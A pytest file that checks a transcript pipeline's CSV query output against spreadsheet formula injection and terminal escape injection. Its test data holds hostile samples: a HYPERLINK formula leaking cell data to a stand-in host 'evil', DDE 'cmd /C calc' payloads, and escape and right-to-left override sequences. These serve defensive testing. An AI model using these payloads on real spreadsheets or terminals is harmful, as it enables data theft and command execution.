"""Transcripts that a spreadsheet would run as formulas, and that would drive a terminal."""

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pa_csv
import pytest

from jobs.cli import main
from jobs.query_command import as_cells
from pipeline.manifest import Manifest
from tests.pipeline.manifest_rows import segment

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '="a,b"',
)
HARMLESS = ("hello", "", "a=b", "'quoted", "1-2", "你好", " = spaced")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_in_every_cell_that_a_person_opens(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes], text: str
) -> None:
    manifest = Manifest.create(tmp_path / "out")
    rows = [segment("a.wav", 0, 2, text, speaker=text, asr_flags=[text])]
    manifest.commit_rows("u1", {"segments": rows})
    sql = 'SELECT text, speaker, asr_flags, -duration_s AS x, text AS "=1+1" FROM segments'
    assert main(["query", str(tmp_path / "out"), sql, "--format", "csv"]) == 0
    shown = capsysbinary.readouterr().out.decode()
    header, cells = list(csv.reader(io.StringIO(shown, newline="")))
    assert header == ["text", "speaker", "asr_flags", "x", "'=1+1"]
    assert cells[0] == cells[1] == cells[4] == f"'{text}"
    assert cells[2].startswith("[")
    assert cells[3] == "-2"


def test_what_is_no_formula_stays_as_it_is() -> None:
    table = pa.table({"a": HARMLESS, "b": pa.array(HARMLESS).dictionary_encode()})
    assert as_cells(table).to_pydict() == {"a": list(HARMLESS), "b": list(HARMLESS)}


def test_numbers_times_and_nothing_are_written_as_they_are() -> None:
    table = pa.table(
        {"n": [-1.5, None], "i": [-3, 0], "t": pa.array([0, None], pa.timestamp("us"))}
    )
    sink = io.BytesIO()
    pa_csv.write_csv(as_cells(table), sink)
    assert sink.getvalue().decode().splitlines()[1:] == [
        "-1.5,-3,1970-01-01 00:00:00.000000",
        ",0,",
    ]


def test_a_transcript_drives_no_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = Manifest.create(tmp_path / "out")
    hostile = "\x1b]0;owned\x07\x1b[2J\x9b31mred \u202egnp.exe\u2066 [bold]plain[/bold]"
    manifest.commit_rows("u1", {"segments": [segment("a.wav", 0, 2, hostile)]})
    assert main(["query", str(tmp_path / "out"), "SELECT text FROM segments"]) == 0
    shown = capsys.readouterr().out
    assert not set(shown) & set("\x1b\x07\x9b\u202e\u2066")
    assert "[bold]plain[/bold]" in shown


def test_a_complaint_about_a_hostile_name_drives_none_either(
    capsys: pytest.CaptureFixture[str],
) -> None:
    for name in ("no\x1b[2Jspec.yaml", "no\x9b31m\u202espec.yaml"):
        assert main(["plan", name]) == 2
        assert main([name]) == 2
    assert not set(capsys.readouterr().err) & set("\x1b\x9b\u202e")
